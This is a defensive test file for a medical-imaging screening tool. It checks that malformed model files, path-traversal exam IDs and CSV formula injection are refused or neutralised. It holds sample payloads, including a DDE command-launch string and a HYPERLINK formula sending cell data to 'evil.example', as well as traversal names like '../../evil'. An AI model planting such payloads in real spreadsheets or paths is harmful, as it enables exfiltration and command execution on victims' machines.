"""Hostile inputs that reach the outputs (issue 26): model files that would hang, crash or give NaN
(cycles, indices out of range, deep JSON, non-finite numbers, oversized files), exam IDs and
manifest columns that a spreadsheet would run as formulas (CSV injection), an exam ID that would
put the default output folder elsewhere, and a reader that closes standard output early.

Every bad input is made here, in ``tmp_path``; each must give one sentence on stderr, exit 2, no
traceback and nothing written.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from test_cohort import touch

from VertebralFractureScreenLib import cohort
from VertebralFractureScreenLib.exam import screening
from VertebralFractureScreenLib import levels as lv
from VertebralFractureScreenLib.model import fracture_model as fm
from VertebralFractureScreenLib.cli import main
from VertebralFractureScreenLib.errors import InputError
from VertebralFractureScreenLib.model.features import FEATURE_VERSION, features_from_folder
from VertebralFractureScreenLib.phantom.render import Fracture, PhantomSpec, write_phantom
from VertebralFractureScreenLib.exam.screening import screen_exam
from VertebralFractureScreenLib.io.serialization import csv_text, neutralised

FEATURES = ("max_genant_grade", "l1_hu", "age")


# ------------------------------------------------------------------------------------------------
# Model files made by hand (no scikit-learn needed)
# ------------------------------------------------------------------------------------------------


def logistic_dict() -> dict:
    return fm.FractureModel(
        name="hand-made logistic", kind="logistic", features=FEATURES, imputation_median=np.array([0.0, 150.0, 70.0]),
        scaling_mean=np.array([0.5, 140.0, 70.0]), scaling_scale=np.array([0.8, 30.0, 8.0]), threshold=0.5,
        parameters={"coefficients": [1.5, -1.0, 0.2], "intercept": -0.3}).to_dict()


def tree(depth: int = 2) -> dict:
    """A complete binary tree of ``depth`` split levels, in scikit-learn's depth-first layout
    (children -1 and feature -2 at the leaves)."""
    left, right, feature, threshold, value = [], [], [], [], []

    def grow(level: int) -> int:
        node = len(left)
        for array in (left, right, feature, threshold, value):
            array.append(None)
        value[node] = 0.1 * node - 0.2
        if level == depth:
            left[node], right[node], feature[node], threshold[node] = -1, -1, -2, -2.0
        else:
            feature[node], threshold[node] = level % len(FEATURES), 0.25 * level - 0.1
            left[node] = grow(level + 1)
            right[node] = grow(level + 1)
        return node

    grow(0)
    return {"children_left": left, "children_right": right, "feature": feature, "threshold": threshold,
            "value": value}


def chain(depth: int) -> dict:
    """A tree with ``depth`` splits on its right-most path (each split's left child a leaf)."""
    nodes = 2 * depth + 1  # node 2k is the k-th split; its children are 2k+1 (a leaf) and 2k+2
    left = [-1] * nodes
    right = [-1] * nodes
    for k in range(depth):
        left[2 * k], right[2 * k] = 2 * k + 1, 2 * k + 2
    return {"children_left": left, "children_right": right,
            "feature": [0 if left[i] >= 0 else -2 for i in range(nodes)],
            "threshold": [0.0 if left[i] >= 0 else -2.0 for i in range(nodes)], "value": [0.01] * nodes}


def boosting_dict(trees=None) -> dict:
    return fm.FractureModel(
        name="hand-made boosting", kind="gradient_boosting", features=FEATURES,
        imputation_median=np.array([0.0, 150.0, 70.0]), scaling_mean=np.array([0.5, 140.0, 70.0]),
        scaling_scale=np.array([0.8, 30.0, 8.0]), threshold=0.4,
        parameters={"learning_rate": 0.1, "init_log_odds": -0.5, "max_depth": 2,
                    "trees": trees if trees is not None else [tree(2), tree(1)]}).to_dict()


def features_csv(path: Path) -> Path:
    rows = [{"exam_id": f"e{i}", "features_version": FEATURE_VERSION, "max_genant_grade": i % 3,
             "l1_hu": 100 + 10 * i, "age": 60 + i, "fracture": int(i % 3 > 0)} for i in range(12)]
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def write_json_text(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def evaluate_refuses(capsys, tmp_path, model_path: Path, words: str) -> str:
    """``vfscreen evaluate`` refuses the model with one sentence naming it, exit 2, no report."""
    table = features_csv(tmp_path / "features.csv")
    report = tmp_path / "report"
    code = main(["evaluate", str(model_path), str(table), "--label", "fracture", "--report", str(report)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.count("\n") == 1 and err.startswith("vfscreen: ") and "Traceback" not in err
    assert "internal error" not in err and str(model_path) in err and words in err, err
    assert not report.exists()
    return err


def test_hand_made_models_load_and_give_finite_probabilities(tmp_path):
    for data in (logistic_dict(), boosting_dict(), boosting_dict([chain(fm.MAX_TREE_DEPTH)])):
        path = write_json_text(tmp_path / "m.json", json.dumps(data))
        model = fm.load_model(path)
        p = model.predict_proba(np.array([[0.0, 90.0, np.nan], [3.0, 200.0, 80.0], [np.nan] * 3]))
        assert p.shape == (3,) and np.all(np.isfinite(p)) and np.all((p > 0) & (p < 1))


def test_free_text_entries_of_another_type_do_not_break_loading(tmp_path):
    data = logistic_dict()
    data.update(software=[1], name=["x"], created_utc=None, intended_use=3)
    model = fm.load_model(write_json_text(tmp_path / "m.json", json.dumps(data)))
    assert model.software_version == "" and model.name == "['x']"
    assert model.provenance()["kind"] == "logistic"


def mutate(data: dict, path: str, value) -> dict:
    """Set the entry at ``path`` (keys and indices separated by /) to ``value``."""
    *parents, last = path.split("/")
    target = data
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target[key]
    if isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value
    return data


TREE0 = "gradient_boosting/trees/0"


class Raw(str):
    """JSON text written as is in a model file (``1e400``: a number JSON allows, beyond a float)."""


def dumps(data: dict) -> str:
    """``json.dumps``, with every :class:`Raw` value written as its text."""
    raws: list[Raw] = []

    def find(value):
        if isinstance(value, Raw):
            raws.append(value)
        elif isinstance(value, (dict, list)):
            for item in value.values() if isinstance(value, dict) else value:
                find(item)

    find(data)
    text = json.dumps(data)
    for raw in raws:
        text = text.replace(json.dumps(str(raw)), str(raw))
    return text


@pytest.mark.parametrize("make, path, value, words", [
    # a cycle: node 1 (a split) points back to the root; a self-loop; a node reached twice
    (boosting_dict, f"{TREE0}/children_left/1", 0, "node 0 of tree 0 is reached twice"),
    (boosting_dict, f"{TREE0}/children_right/0", 0, "node 0 of tree 0 is reached twice"),
    (boosting_dict, f"{TREE0}/children_right/0", 1, "node 1 of tree 0 is reached twice"),
    # indices out of range, or not indices
    (boosting_dict, f"{TREE0}/children_right/0", 999, "children_right[0] of tree 0 is 999, not an index"),
    (boosting_dict, f"{TREE0}/children_left/0", -7, "children_left[0] of tree 0 is -7"),
    (boosting_dict, f"{TREE0}/children_left/0", 1.0, "children_left[0] of tree 0 is 1.0"),
    (boosting_dict, f"{TREE0}/children_left/0", True, "children_left[0] of tree 0 is True"),
    (boosting_dict, f"{TREE0}/feature/0", 3, "feature[0] of tree 0 is 3, not an index from -2 to 2"),
    (boosting_dict, f"{TREE0}/feature/0", -2, "node 0 of tree 0 is neither a leaf nor a split"),
    (boosting_dict, f"{TREE0}/children_left/1", -1, "node 1 of tree 0 is neither a leaf nor a split"),
    (boosting_dict, f"{TREE0}/value", [0.0], "the arrays of tree 0 differ in length"),
    (boosting_dict, f"{TREE0}/threshold", [], "tree 0 has no threshold list"),
    (boosting_dict, "gradient_boosting/trees/1", [1, 2], "tree 1 is not an object"),
    (boosting_dict, "gradient_boosting/trees", {"0": 1}, "the trees are not a list"),
    # numbers that are not finite, or not numbers
    (boosting_dict, f"{TREE0}/threshold/0", Raw("1e400"), "threshold[0] of tree 0 is not a finite number"),
    (boosting_dict, f"{TREE0}/value/3", 10 ** 400, "value[3] of tree 0 is not a finite number"),
    (boosting_dict, f"{TREE0}/value/3", "0.5", "value[3] of tree 0 is not a number"),
    (boosting_dict, "gradient_boosting/learning_rate", Raw("-1e400"), "the learning rate is not a finite number"),
    (boosting_dict, "gradient_boosting/init_log_odds", None, "the initial log-odds is not a number"),
    (logistic_dict, "logistic/intercept", "nan", "the intercept is not a number"),
    (logistic_dict, "logistic/intercept", Raw("1e999"), "the intercept is not a finite number"),
    (logistic_dict, "logistic/coefficients/1", Raw("-1e400"), "coefficients must be 3 finite numbers"),
    (logistic_dict, "imputation/values/0", Raw("1e400"), "imputation values must be 3 finite numbers"),
    (logistic_dict, "scaling/mean/2", "1", "scaling means must be 3 finite numbers"),
    (logistic_dict, "threshold/value", Raw("1e400"), "the threshold is not a finite number"),
    (logistic_dict, "threshold", 0.5, "its threshold is not an object"),
    (logistic_dict, "training", [1], "its training record is not an object"),
])
def test_damaged_model_files_are_one_sentence(capsys, tmp_path, make, path, value, words):
    data = mutate(make(), path, value)
    model_path = write_json_text(tmp_path / "hostile model.json", dumps(data))
    err = evaluate_refuses(capsys, tmp_path, model_path, words)
    assert "is damaged or incomplete" in err


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
@pytest.mark.parametrize("make, path", [
    (logistic_dict, "logistic/intercept"), (logistic_dict, "logistic/coefficients/0"),
    (boosting_dict, f"{TREE0}/threshold/0"), (boosting_dict, f"{TREE0}/value/4"),
    (boosting_dict, "gradient_boosting/init_log_odds"), (logistic_dict, "scaling/scale/1"),
])
def test_nan_and_infinity_are_refused_wherever_they_are(capsys, tmp_path, make, path, constant):
    data = mutate(make(), path, "@@CONSTANT@@")
    text = json.dumps(data).replace('"@@CONSTANT@@"', constant)  # the non-standard literal Python's json reads
    model_path = write_json_text(tmp_path / "model.json", text)
    evaluate_refuses(capsys, tmp_path, model_path, f"it holds {constant}, but every number of a model must be finite")


def test_a_cyclic_tree_cannot_hang_even_without_the_checks():
    cyclic = tree(2)
    cyclic["children_left"][1] = 0
    with pytest.raises(ValueError, match="cycle"):
        fm._tree_values(cyclic, np.full((4, 3), -1.0, dtype=np.float32))  # left, left, back to the root


def test_trees_deeper_than_the_bound_are_refused(capsys, tmp_path):
    fm.model_from_dict(boosting_dict([chain(fm.MAX_TREE_DEPTH)]))  # at the bound: accepted
    model_path = write_json_text(tmp_path / "deep tree.json", json.dumps(boosting_dict([chain(fm.MAX_TREE_DEPTH + 1)])))
    evaluate_refuses(capsys, tmp_path, model_path, f"tree 0 is deeper than {fm.MAX_TREE_DEPTH} levels")


def test_json_nested_100000_deep_is_one_sentence(capsys, tmp_path):
    for name, text in (("lists.json", "[" * 100_000 + "]" * 100_000),
                       ("objects.json", '{"a":' * 100_000 + "1" + "}" * 100_000),
                       ("unclosed.json", "[" * 100_000)):
        model_path = write_json_text(tmp_path / name, text)
        evaluate_refuses(capsys, tmp_path, model_path, f"its JSON is nested deeper than {fm.MAX_JSON_DEPTH} levels")


def test_json_nesting_is_bounded_at_the_documented_depth(tmp_path):
    def nested(levels: int) -> dict:  # the model object is level 1, training 2, then lists
        data = logistic_dict()
        data["training"]["note"] = json.loads("[" * (levels - 2) + "]" * (levels - 2))
        return data

    assert fm.load_model(write_json_text(tmp_path / "ok.json", json.dumps(nested(fm.MAX_JSON_DEPTH))))
    with pytest.raises(InputError, match=f"nested deeper than {fm.MAX_JSON_DEPTH} levels"):
        fm.load_model(write_json_text(tmp_path / "deep.json", json.dumps(nested(fm.MAX_JSON_DEPTH + 1))))
    # brackets inside strings, escaped quotes included, are text, not nesting
    data = logistic_dict()
    data["name"] = 'a "quoted" [[[[' * 50 + "\\" + "{" * 100
    assert fm.load_model(write_json_text(tmp_path / "text.json", json.dumps(data))).name == data["name"]


def test_oversized_model_files_are_not_read(capsys, tmp_path, monkeypatch):
    text = json.dumps(boosting_dict([tree(3)] * 20))
    monkeypatch.setattr(fm, "MAX_MODEL_BYTES", len(text) - 1)
    model_path = write_json_text(tmp_path / "big.json", text)
    evaluate_refuses(capsys, tmp_path, model_path, "it is larger than")
    monkeypatch.setattr(fm, "MAX_MODEL_BYTES", len(text))
    assert fm.load_model(model_path).kind == "gradient_boosting"


# ------------------------------------------------------------------------------------------------
# Screening outputs: a small phantom
# ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def phantom(tmp_path_factory) -> dict[str, Path]:
    spec = PhantomSpec(levels=lv.parse_level_range("T12-L3"), spacing=(3.0, 3.0, 3.0), supersampling=1,
                       fractures=(Fracture.parse("L1:wedge:0.35"),), seed=3)
    return write_phantom(spec, tmp_path_factory.mktemp("phantom"))


def screen_args(phantom, *extra) -> list[str]:
    return ["screen", str(phantom["ct"]), "--seg", str(phantom["total"]), "--levels", "T12-L3", "--no-qc", *extra]


def read_rows(path: Path) -> tuple[list[str], list[dict]]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


# -- CSV injection ---------------------------------------------------------------------------------


def test_text_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers():
    rows = [{"exam_id": "=HYPERLINK(\"http://x\",\"y\")", "a": -1.5, "b": np.float32(-2.25), "c": -7, "d": "-3.5e2",
             "e": ["-x", "y"], "f": "ok"},
            {"exam_id": "@SUM(1)", "a": "+1+1", "b": "\tcmd", "c": "\r=1", "d": "-", "e": ("a", "=b"), "f": "a\r\n=b"}]
    text = csv_text(["exam_id", "a", "b", "c", "d", "e", "f", "=cmd|' /C calc'!A0"], rows)
    header, *lines = list(csv.reader(io.StringIO(text, newline="")))
    assert header[-1] == "'=cmd|' /C calc'!A0"
    assert lines[0][:7] == ["'=HYPERLINK(\"http://x\",\"y\")", "-1.5", "-2.25", "-7", "-3.5e2", "'-x;y", "ok"]
    assert lines[1][:7] == ["'@SUM(1)", "'+1+1", "'\tcmd", "'\n=1", "'-", "a;=b", "a\n=b"]
    assert len(lines) == 2  # a carriage return cannot start a row (and an unneutralised cell)
    for cell in (cell for line in lines for cell in line):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (not cell.startswith("-") or float(cell) < 0)
    assert [neutralised(t) for t in ("", "x", "-0.5", "+3", "1e-4", "-1e5", "-.5", "--1", "-1-1")] == \
        ["", "x", "-0.5", "+3", "1e-4", "-1e5", "-.5", "'--1", "'-1-1"]


def test_an_exam_id_that_starts_a_formula_is_neutralised_in_every_table(phantom, tmp_path, capsys):
    """The command line refuses such an exam ID (it is not a plain name: cohort.checked_exam_id);
    a library caller may still give one, and every table neutralises it."""
    out = tmp_path / "out"
    exam_id = '=HYPERLINK("evil.example?"&A1,"click")'
    assert main(screen_args(phantom, "--exam-id", exam_id, "--out", str(out))) == 2
    assert "is not a plain name" in capsys.readouterr().err and not out.exists()
    screen_exam(phantom["ct"], seg=phantom["total"], levels=lv.parse_level_range("T12-L3"),
                exam_id=exam_id).write(out, qc=False)
    numbers = 0
    for name in ("vertebrae.csv", "muscles.csv"):
        header, rows = read_rows(out / name)
        assert rows and all(row["exam_id"] == "'" + exam_id for row in rows)
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, column, cell)
                if cell.startswith("-"):
                    numbers += math.isfinite(float(cell))  # a negative number, written as a number
    assert numbers > 0  # the phantom has negative losses; they stay numbers
    assert json.loads((out / "exam.json").read_text())["exam_id"] == exam_id  # JSON is not a spreadsheet
    features = features_from_folder(out)  # the tables still read back
    assert features["max_genant_grade"] >= 1 and features["graded_count"] == 4


def test_manifest_columns_that_start_a_formula_are_neutralised_in_features_csv(phantom, tmp_path):
    manifest = tmp_path / "manifest.csv"
    rows = [["exam_id", "ct", "seg", "note", "age", "sex", "fracture"],
            ["A1", str(phantom["ct"]), str(phantom["total"]), "=1+2", "-", "F", "1"],
            ["A2", str(phantom["ct"]), str(phantom["total"]), "@cmd", "70", "M", "0"]]
    with manifest.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    out = tmp_path / "cohort"
    summary = cohort.run_cohort(manifest, out, settings=cohort.CohortSettings(levels=lv.parse_level_range("T12-L3"),
                                                                              qc=False))
    assert summary.unfinished == 0
    header, table = read_rows(out / "features.csv")
    assert [row["note"] for row in table] == ["'=1+2", "'@cmd"] and [row["age"] for row in table] == ["'-", "70"]
    assert table[0]["l1_hu"] and float(table[0]["l1_hu"]) > 0
    read = fm.read_feature_table(out / "features.csv", "fracture")  # reads back for training
    assert read.exam_ids == ["A1", "A2"] and list(read.labels) == [1.0, 0.0]
    age = read.values[:, read.columns.index("age")]
    assert math.isnan(age[0]) and age[1] == 70.0


# -- exam IDs that are not plain names ------------------------------------------------------------


def tree_listing(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


@pytest.mark.parametrize("exam_id", ["../../evil", "../evil", "a/b", "/tmp/evil", "..", ".", "", "a\\b", "x\ny",
                                     "tab\there", "del\x7f"])
def test_an_exam_id_must_be_a_plain_name(phantom, tmp_path, capsys, monkeypatch, exam_id):
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    before = tree_listing(tmp_path)
    code = main(screen_args(phantom, "--exam-id", exam_id))
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert f"--exam-id {exam_id!r} is not a plain name" in err
    assert tree_listing(tmp_path) == before  # nothing written, here or above
    assert main(screen_args(phantom, "--exam-id", exam_id, "--out", str(tmp_path / "out"))) == 2  # not with --out
    assert not (tmp_path / "out").exists()


def test_a_ct_name_that_is_not_a_plain_name_needs_an_exam_id(phantom, tmp_path, capsys, monkeypatch):
    ct = tmp_path / "bad\nname.nii.gz"
    ct.symlink_to(phantom["ct"])
    monkeypatch.chdir(tmp_path)
    code = main(["screen", str(ct), "--seg", str(phantom["total"]), "--levels", "T12-L3", "--no-qc"])
    err = capsys.readouterr().err
    assert code == 2 and "the exam ID from the CT's name 'bad\\nname' is not a plain name" in err
    assert "give --exam-id or --out" in err
    assert main(["screen", str(ct), "--seg", str(phantom["total"]), "--levels", "T12-L3", "--no-qc",
                 "--exam-id", "good"]) == 0
    assert (tmp_path / "good_vfscreen" / "exam.json").is_file()


# -- one exam-ID rule for the command line and the cohort ------------------------------------------

GOOD_IDS = ["a", "A1", "CT abdomen", "a b c", "exam-01", "x.y", "p+q", "s_1", "7", "com10", "müller",
            unicodedata.normalize("NFD", "çelik"),
            "東京", "नमस्ते", "é" * 100, "a" * 200]
BAD_IDS = ["", ".", "..", ".hidden", "-a", "_a", "+a", "=1+2", "@x", "a/b", "../up", "/tmp/evil", "a\\b", "a  b", " a",
           "a ", "a\n", "x\ny", "tab\tx", "del\x7f", "c1\x85x", "a\u200bb", "a:b", "a*b", "a?b", 'a"b', "a<b", "a|b",
           "x.", "CON", "nul.x", "Lpt1", "a" * 201, "é" * 101, "\udcffx", "\ufffd"]


@pytest.mark.parametrize("exam_id, good", [*((i, True) for i in GOOD_IDS), *((i, False) for i in BAD_IDS)],
                         ids=lambda value: ascii(value)[:24] if isinstance(value, str) else str(value))
def test_the_cli_and_the_cohort_accept_and_refuse_the_same_exam_ids(tmp_path, capsys, monkeypatch, exam_id, good):
    """The same ID through ``vfscreen screen --exam-id``, as the CT's name of ``vfscreen screen``
    without --out, in a manifest, as a file of a folder cohort and in a list of CT files: all
    accept it (in NFC form) or all refuse it, by the one rule of ``cohort.checked_exam_id``."""

    def reached(ct, **options):  # the ID passed the command line's check: no need to screen
        raise InputError(f"screening {options['exam_id']!r}")

    monkeypatch.setattr(screening, "screen_exam", reached)
    normal = unicodedata.normalize("NFC", exam_id)
    seg = touch(tmp_path / "seg.nii.gz")
    verdicts = {}
    assert main(["screen", str(seg), "--seg", str(seg), f"--exam-id={exam_id}", "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    verdicts["--exam-id"] = f"screening {normal!r}" in err
    assert verdicts["--exam-id"] or f"--exam-id {exam_id!r} is not a plain name" in err
    can_be_a_file = exam_id not in ("", ".", "..") and "/" not in exam_id and not exam_id.startswith(".")
    if can_be_a_file:
        ct = touch(tmp_path / "cts" / f"{exam_id}.nii.gz")
        monkeypatch.chdir(tmp_path)
        assert main(["screen", str(ct), "--seg", str(seg)]) == 2
        err = capsys.readouterr().err
        verdicts["CT name"] = f"screening {normal!r}" in err
        assert verdicts["CT name"] or "the exam ID from the CT's name" in err
        folder = tmp_path / "folder"
        touch(folder / f"{exam_id}.nii.gz")
        touch(folder / "zz0.nii.gz")  # a second exam: the folder is not refused as a whole
        exam, = (e for e in cohort.find_exams(folder) if Path(e.ct).name != "zz0.nii.gz")
        verdicts["folder"] = exam.refused is None
        assert exam.exam_id == normal if exam.refused is None else "cannot name a folder" in exam.refused
        try:
            verdicts["CT list"] = cohort.exams_from_files([ct])[0].exam_id == normal
        except InputError as error:
            verdicts["CT list"] = False
            assert "cannot name a folder" in str(error)
    if exam_id and exam_id == exam_id.strip() and "\udcff" not in exam_id:  # a manifest's cells are stripped UTF-8
        manifest = tmp_path / "m.csv"
        with manifest.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows([["exam_id", "ct"], [exam_id, "ct.nii.gz"]])
        try:
            verdicts["manifest"] = cohort.find_exams(manifest)[0].exam_id == normal
        except InputError as error:
            verdicts["manifest"] = False
            assert "cannot name a folder" in str(error) and len(str(error).splitlines()) == 1
    assert verdicts == dict.fromkeys(verdicts, good)


# -- a reader that closes standard output early ---------------------------------------------------


def run_with_stdout_closed(args: list[str], cwd: Path, **env) -> subprocess.CompletedProcess:
    """Run ``vfscreen`` with a standard output whose reader has already gone (as ``| head -1`` is
    once it has its line)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        return subprocess.run([sys.executable, "-m", "VertebralFractureScreenLib.cli", *args], stdout=write_end,
                              stderr=subprocess.PIPE, text=True, cwd=cwd, timeout=300,
                              env={**os.environ, **env})
    finally:
        os.close(write_end)


@pytest.mark.parametrize("unbuffered", ["", "1"])
def test_a_closed_stdout_is_not_an_error_and_every_file_is_written(phantom, tmp_path, unbuffered):
    out = tmp_path / "out"
    run = run_with_stdout_closed(screen_args(phantom, "--out", str(out)), tmp_path, PYTHONUNBUFFERED=unbuffered)
    assert run.returncode == 0 and run.stderr == "", run.stderr
    assert sorted(p.name for p in out.iterdir()) == ["exam.json", "muscles.csv", "vertebrae.csv"]
    assert json.loads((out / "exam.json").read_text())["exam_id"] == "ct"


def test_a_closed_stdout_keeps_the_command_s_own_status(phantom, tmp_path):
    run = run_with_stdout_closed(["--help"], tmp_path)
    assert run.returncode == 0 and run.stderr == ""
    run = run_with_stdout_closed(screen_args(phantom, "--exam-id", "../x"), tmp_path)
    assert run.returncode == 2 and "is not a plain name" in run.stderr and run.stderr.count("\n") == 1
